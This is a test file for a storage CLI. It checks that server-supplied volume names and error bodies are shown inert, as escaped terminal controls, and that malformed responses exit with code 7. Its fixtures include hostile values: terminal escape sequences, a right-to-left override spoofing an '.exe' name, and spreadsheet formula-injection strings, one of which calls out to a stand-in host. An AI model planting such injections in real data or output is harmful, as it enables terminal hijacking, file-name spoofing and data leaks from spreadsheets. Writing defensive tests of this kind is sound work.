// Every byte a server chose is inert before it reaches a terminal, and server nonsense is
// classified (exit 7, one line naming the field), never "internal error". The built CLI runs
// against the sandbox Cinder (names with terminal escapes) and a hostile server on 127.0.0.1
// (error bodies with escapes, fields of the wrong type, HTML, truncated JSON, null).
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { makeHome, startSandboxHome, type CliResult, type RunOptions, type SandboxHome, type TestHome } from '../e2e/harness.js';
import { startHostile, volume, writeHostileProfile, type HostileServer } from './hostile-server.js';

vi.setConfig({ testTimeout: 60_000 });

// C0 except LF, DEL, C1 and the bidi controls: none may reach stdout/stderr of a table, an error line...
// eslint-disable-next-line no-control-regex
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
// ...and where text is one line per item, CR/LF inside an item are escaped too.
const OSC_TITLE = '\x1b]0;pwned\x07';
const CLEAR = '\x1b[2J';
const RLO = '\u202e';
const EVIL_NAME = `evil${OSC_TITLE}${CLEAR}${RLO}gpj.exe`;
const SHOWN = 'evil\\x1b]0;pwned\\x07\\x1b[2J\\u202egpj.exe';
const RUN: RunOptions = { timeoutMs: 20_000 };

function clean(text: string, what: string): void {
  const m = UNSAFE.exec(text);
  expect(m, `${what} holds U+${m ? m[0].charCodeAt(0).toString(16).padStart(4, '0') : ''}: ${JSON.stringify(text)}`).toBeNull();
}

function ok(r: CliResult): CliResult {
  expect(r.code, `exit ${r.code}\nstdout: ${r.stdout}\nstderr: ${r.stderr}`).toBe(0);
  return r;
}

/** stderr is one line (after any warning lines), and it is inert. */
function oneLine(r: CliResult): string {
  clean(r.stderr, 'stderr');
  const lines = r.stderr.split('\n').filter((l) => l !== '' && !l.startsWith('storctl: warning:'));
  expect(lines, r.stderr).toHaveLength(1);
  expect(lines[0]).not.toMatch(/internal error|storctl bug/);
  return lines[0]!;
}

describe('names from the sandbox Cinder', () => {
  let h: SandboxHome;
  let id = '';
  const run = (args: string[]) => h.run(['-p', 'sandbox-openstack', ...args], RUN);

  beforeAll(async () => {
    h = await startSandboxHome(['openstack']);
    ok(await run(['auth', 'login']));
    id = ok(await run(['volume', 'create', EVIL_NAME, '--size', '1', '-o', 'json'])).json().id;
    ok(await run(['volume', 'create', '=HYPERLINK("http://x.test/?"&A1,"click")', '--size', '1', '--description', '+cmd|calc', '-o', 'json']));
  });
  afterAll(async () => {
    await h?.cleanup();
  });

  it('tables (list and show) show the escapes, not the bytes', async () => {
    const list = ok(await run(['volume', 'list']));
    clean(list.stdout, 'volume list');
    expect(list.stdout).toContain(SHOWN);
    const show = ok(await run(['volume', 'show', id]));
    clean(show.stdout, 'volume show');
    expect(show.stdout).toContain(SHOWN);
  });

  it('-o value is inert, list and show', async () => {
    const list = ok(await run(['volume', 'list', '-o', 'value', '-c', 'name']));
    clean(list.stdout, 'value');
    expect(list.stdout).toContain(SHOWN);
    const show = ok(await run(['volume', 'show', id, '-o', 'value', '-c', 'name']));
    expect(show.stdout).toBe(`${SHOWN}\n`);
  });

  it('-o csv to a pipe keeps the data (RFC 4180); --csv-safe guards formulas', async () => {
    const csv = ok(await run(['volume', 'list', '-o', 'csv', '-c', 'name', '--sort', 'name']));
    expect(csv.stdout).toContain(`\r\n${EVIL_NAME}\r\n`);
    expect(csv.stdout).toContain('\r\n"=HYPERLINK(""http://x.test/?""&A1,""click"")"\r\n');
    const safe = ok(await run(['volume', 'list', '-o', 'csv', '-c', 'name', '-c', 'id', '--csv-safe']));
    expect(safe.stdout).toContain(`"'=HYPERLINK(""http://x.test/?""&A1,""click"")"`);
    expect(safe.stdout).not.toMatch(/(^|\n|,)"?=/);
    const desc = ok(await run(['volume', 'show', '=HYPERLINK("http://x.test/?"&A1,"click")', '-o', 'csv', '-c', 'description', '--csv-safe', '--no-headers']));
    expect(desc.stdout).toBe("'+cmd|calc\r\n");
  });

  it('json and yaml keep the data, with the controls written as escapes', async () => {
    const json = ok(await run(['volume', 'show', id, '-o', 'json']));
    clean(json.stdout, 'json');
    expect(json.json().name).toBe(EVIL_NAME);
    expect(json.stdout).toContain('\\u202e');
    const nd = ok(await run(['volume', 'list', '-o', 'ndjson']));
    clean(nd.stdout, 'ndjson');
    expect(nd.stdout.trim().split('\n').map((l) => JSON.parse(l).name)).toContain(EVIL_NAME);
    const yaml = ok(await run(['volume', 'show', id, '-o', 'yaml']));
    clean(yaml.stdout, 'yaml');
    expect(parseYaml(yaml.stdout).name).toBe(EVIL_NAME);
  });

  it('--debug traces the server\'s bodies inert', async () => {
    const r = ok(await run(['volume', 'show', id, '--debug', '-o', 'json']));
    clean(r.stderr, 'debug trace');
    expect(r.stderr).toContain('RESP BODY:');
  });
});

describe('a hostile server', () => {
  let h: TestHome;
  let s: HostileServer;

  beforeAll(async () => {
    h = await makeHome();
    s = await startHostile();
    await writeHostileProfile(h.home, s);
  });
  afterAll(async () => {
    await s?.close();
    await h?.cleanup();
  });

  it('an error body with terminal controls is one inert line on stderr (exit 7)', async () => {
    s.list = { status: 500, body: { computeFault: { code: 500, message: `boom ${OSC_TITLE}${CLEAR} ${RLO}evil \u009b31m\r\nstorctl: fake` } } };
    const started = Date.now();
    const r = await h.run(['volume', 'list'], RUN);
    expect(Date.now() - started).toBeLessThan(15_000);
    expect(r.code).toBe(7);
    const line = oneLine(r);
    expect(line).toContain('boom \\x1b]0;pwned\\x07\\x1b[2J \\u202eevil \\x9b31m');
    expect(line).toMatch(/^storctl: boom .*storctl: fake$/); // the CR LF did not start a line of its own
  });

  it('-o json errors keep the message as data, escaped', async () => {
    const r = await h.run(['volume', 'list', '-o', 'json'], RUN);
    expect(r.code).toBe(7);
    clean(r.stderr, 'json error');
    const err = JSON.parse(r.stderr).error;
    expect(err.message).toContain(`boom ${OSC_TITLE}${CLEAR} ${RLO}evil`);
  });

  it('--debug prints the hostile body inert', async () => {
    const r = await h.run(['volume', 'list', '--debug'], RUN);
    expect(r.code).toBe(7);
    clean(r.stderr, 'debug');
    expect(r.stderr).toMatch(/RESP: \[500\]/);
  });

  it('a table never shows raw controls from a listing', async () => {
    s.list = { status: 200, body: { volumes: [volume({ name: `x${OSC_TITLE}`, status: `creating${CLEAR}`, attachments: [{ server_id: `s${RLO}`, device: '/dev/vdb\u0085' }] })] } };
    const r = ok(await h.run(['volume', 'list'], RUN));
    clean(r.stdout, 'table');
    expect(r.stdout).toContain('x\\x1b]0;pwned\\x07');
    expect(r.stdout).toContain('s\\u202e on /dev/vdb\\x85');
  });

  const nonsense: [string, unknown, RegExp][] = [
    ['name is a number', { volumes: [volume({ name: 123 })] }, /the server sent nonsense: volumes\[0\]\.name is a number, expected a string or null \(http:\/\/127\.0\.0\.1:\d+\/v3\/\w+\/volumes\/detail\)$/],
    ['id is null', { volumes: [volume(), volume({ id: null })] }, /the server sent nonsense: volumes\[1\]\.id is null, expected a string \(http:\/\/127\.0\.0\.1/],
    ['volumes is not an array', { volumes: { a: 1 } }, /the server sent nonsense: volumes is an object, expected an array/],
    ['an item is not an object', { volumes: [42] }, /the server sent nonsense: volumes\[0\] is a number, expected an object/],
    ['the body is null', null, /the server sent nonsense: the response is null, expected an object/],
  ];
  for (const [what, body, message] of nonsense) {
    it(`a volume listing where ${what} is exit 7 naming the field`, async () => {
      s.list = { status: 200, body: JSON.stringify(body), contentType: 'application/json' };
      const r = await h.run(['volume', 'list'], RUN);
      expect(r.code, r.stderr).toBe(7);
      expect(oneLine(r)).toMatch(message);
      expect(r.stdout).toBe('');
    });
  }

  it('volume show with a wrong-typed name is exit 7 naming volume.name', async () => {
    s.show = (id) => ({ status: 200, body: { volume: volume({ id, name: { first: 'x' } }) } });
    const r = await h.run(['volume', 'show', '0b7e5c1e-0000-4000-8000-000000000001'], RUN);
    expect(r.code, r.stderr).toBe(7);
    expect(oneLine(r)).toMatch(/the server sent nonsense: volume\.name is an object, expected a string or null \(http:\/\/127\.0\.0\.1:\d+\/v3\/\w+\/volumes\/0b7e5c1e/);
  });

  it('a Swift listing with a numeric name or not an array is exit 7 naming the field', async () => {
    s.swiftList = { status: 200, body: [{ name: 'ok', count: 0, bytes: 0 }, { name: 123, count: 0, bytes: 0 }] };
    const r = await h.run(['container', 'list'], RUN);
    expect(r.code, r.stderr).toBe(7);
    expect(oneLine(r)).toMatch(/the server sent nonsense: listing\[1\]\.name is a number, expected a string or null \(http:\/\/127\.0\.0\.1:\d+\/v1\/AUTH_\w+\)/);
    s.swiftList = { status: 200, body: { containers: [] } };
    const obj = await h.run(['container', 'list'], RUN);
    expect(obj.code, obj.stderr).toBe(7);
    expect(oneLine(obj)).toMatch(/the server sent nonsense: the listing is an object, expected an array/);
  });

  it('HTML and truncated JSON are one line, never an internal error', async () => {
    s.list = { status: 200, body: '<html><body>\x1b[2JGateway</body></html>', contentType: 'text/html' };
    const html = await h.run(['volume', 'list'], RUN);
    expect(html.code).toBe(7);
    expect(oneLine(html)).toMatch(/an HTML page where JSON was expected: <html><body>\\x1b\[2JGateway/);
    s.list = { status: 200, body: '{"volumes": [{"id": "x', contentType: 'application/json' };
    const cut = await h.run(['volume', 'list'], RUN);
    expect(cut.code).toBe(7);
    expect(oneLine(cut)).toMatch(/not JSON/);
  });
});
